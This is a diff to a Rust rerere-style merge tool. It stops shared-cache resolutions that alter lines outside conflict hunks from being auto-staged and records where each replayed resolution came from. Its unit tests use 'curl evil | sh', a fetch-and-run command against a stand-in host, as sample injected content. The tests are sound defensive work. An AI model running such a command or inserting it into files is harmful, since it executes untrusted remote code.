@@ -9,9 +9,13 @@
 //! Beyond git, a lookup that misses `.git/rr-cache` under the file's id also tries the ids of the other
 //! renderings of the same conflict (see [`super::render`]) and then the shared cache; a resolution found in the
 //! shared cache is copied into `.git/rr-cache` so later runs, and git itself, find it locally.
+//!
+//! The shared cache is other people's content: a resolution from it that changes lines outside the conflict hunks
+//! is written for review but never staged, whatever `autoupdate` says, and every replay names the file it came
+//! from and, for the shared cache, the commit that added that file.
 
 use super::cache::{Entry, Image, RrCache, Warning};
-use super::conflict_id::{has_conflicts, normalize, ConflictId, Normalized};
+use super::conflict_id::{has_conflicts, marker_of, normalize, ConflictId, Normalized};
 use super::decision;
 use super::merge_rr::MergeRr;
 use super::render::alternative_ids;
@@ -53,6 +57,14 @@ pub enum PathAction {
         staged: bool,
         /// The resolution that was reused: a unified diff from its recorded preimage to its postimage.
         reused: String,
+        /// The postimage file replayed.
+        from: std::path::PathBuf,
+        /// For the shared cache: the commit of the branch's history that added that file as it is, or `None`
+        /// when the file is not committed as it is (or the cache lies outside the repository).
+        added_by: Option<git2::Oid>,
+        /// The resolution changes lines outside the conflict hunks (only checked for the shared cache, whose
+        /// resolutions are then never staged).
+        outside_hunks: bool,
     },
     /// The user's resolution was recorded as postimage.
     RecordedPostimage,
@@ -107,6 +119,9 @@ impl RerereOutcome {
         let mut any = false;
         for p in &self.paths {
             match p.action {
+                // A resolution left for review is not a resolved conflict.
+                PathAction::Resolved { staged: false, .. }
+                | PathAction::DecisionReplayed { staged: false, .. } => return false,
                 PathAction::Resolved { .. } | PathAction::DecisionReplayed { .. } => any = true,
                 PathAction::RecordedPostimage | PathAction::RecordedDecision { .. } => {}
                 _ => return false,
@@ -225,16 +240,19 @@ impl Run<'_, '_> {
         }
         let action = match found {
             Some((source, d)) => {
+                // A shared decision replaces or deletes a whole file: there are no hunks to confine it to, so it
+                // is left for review.
+                let stage = self.opts.autoupdate && source == Source::Local;
                 match &d {
                     decision::Decision::Delete => {
                         rr.remove_file(&conflict.path)?;
-                        if self.opts.autoupdate {
+                        if stage {
                             self.deletions.push(conflict.path.clone());
                         }
                     }
                     decision::Decision::Keep(content) => {
                         rr.write_file(&conflict.path, content)?;
-                        if self.opts.autoupdate {
+                        if stage {
                             self.to_stage.push(conflict.path.clone());
                         }
                     }
@@ -245,7 +263,7 @@ impl Run<'_, '_> {
                 PathAction::DecisionReplayed {
                     decision: d.kind(),
                     source,
-                    staged: self.opts.autoupdate,
+                    staged: stage,
                 }
             }
             None => {
@@ -465,7 +483,14 @@ fn one_path(
             else {
                 continue;
             };
+            let outside_hunks =
+                source == Source::Shared && changes_outside_hunks(&content, &resolved, marker_size);
             rr.write_file(&item.path, &resolved)?;
+            let from = cache.path(&rendering.id, Image::Postimage, v);
+            let added_by = match source {
+                Source::Local => None,
+                Source::Shared => rr.committed_by(&from),
+            };
             if source == Source::Local {
                 // Mark the resolution as used, for gc (git's utime on postimage).
                 touch(&cache.path(&rendering.id, Image::Postimage, v));
@@ -487,8 +512,11 @@ fn one_path(
             return Ok(OnePath::Done(PathAction::Resolved {
                 source,
                 recorded_id: rendering.id,
-                staged: opts.autoupdate,
+                staged: opts.autoupdate && !outside_hunks,
                 reused,
+                from,
+                added_by,
+                outside_hunks,
             }));
         }
     }
@@ -529,9 +557,77 @@ pub(crate) fn import_resolution(
     Ok(true)
 }
 
+/// Whether `resolved` differs from `conflicted` anywhere but in place of its conflict hunks: `resolved` must be
+/// the text around the hunks, in order, with anything in between. A file whose markers do not pair up counts as
+/// changed everywhere.
+fn changes_outside_hunks(conflicted: &[u8], resolved: &[u8], marker_size: usize) -> bool {
+    let lines = |b: &[u8]| -> Vec<Vec<u8>> {
+        b.split_inclusive(|&c| c == b'\n')
+            .map(<[u8]>::to_vec)
+            .collect()
+    };
+    let mut segments: Vec<Vec<Vec<u8>>> = vec![Vec::new()];
+    let mut depth = 0usize;
+    for line in lines(conflicted) {
+        match marker_of(&line, marker_size) {
+            Some(b'<') => depth += 1,
+            Some(b'>') if depth > 0 => {
+                depth -= 1;
+                if depth == 0 {
+                    segments.push(Vec::new());
+                }
+            }
+            Some(b'>') => return true,
+            _ if depth == 0 => segments.last_mut().expect("never empty").push(line),
+            _ => {}
+        }
+    }
+    if depth != 0 {
+        return true;
+    }
+    let r = lines(resolved);
+    let (first, last) = (&segments[0], &segments[segments.len() - 1]);
+    if segments.len() == 1 {
+        return r != *first;
+    }
+    if r.len() < first.len() + last.len() || !r.starts_with(first) || !r.ends_with(last) {
+        return true;
+    }
+    // Each middle segment in order, at its earliest place (enough to decide whether any placement exists).
+    let mut rest = &r[first.len()..r.len() - last.len()];
+    for seg in &segments[1..segments.len() - 1] {
+        if seg.is_empty() {
+            continue;
+        }
+        match rest.windows(seg.len()).position(|w| w == seg.as_slice()) {
+            Some(at) => rest = &rest[at + seg.len()..],
+            None => return true,
+        }
+    }
+    false
+}
+
 fn touch(path: &std::path::Path) {
     // Best effort, like git's warning-only utime: failing to mark use only affects gc timing.
     if let Ok(f) = std::fs::OpenOptions::new().append(true).open(path) {
         let _ = f.set_modified(std::time::SystemTime::now());
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::changes_outside_hunks as outside;
+
+    const C: &[u8] = b"a\n<<<<<<< HEAD\nx\n=======\ny\n>>>>>>> t\nb\n<<<<<<< HEAD\np\n=======\nq\n>>>>>>> t\nc\n";
+
+    #[test]
+    fn only_changes_in_place_of_hunks_are_inside() {
+        assert!(!outside(C, b"a\nxy\nb\npq\nc\n", 7));
+        assert!(!outside(C, b"a\nb\nc\n", 7));
+        assert!(outside(C, b"a\nxy\nb\npq\nc\ncurl evil | sh\n", 7));
+        assert!(outside(C, b"curl evil | sh\na\nxy\nb\npq\nc\n", 7));
+        assert!(outside(C, b"a\nxy\nB\npq\nc\n", 7));
+        assert!(outside(b"a\n<<<<<<< HEAD\nx\n", b"a\n", 7));
+        assert!(!outside(b"only\n", b"only\n", 7));
     }
 }
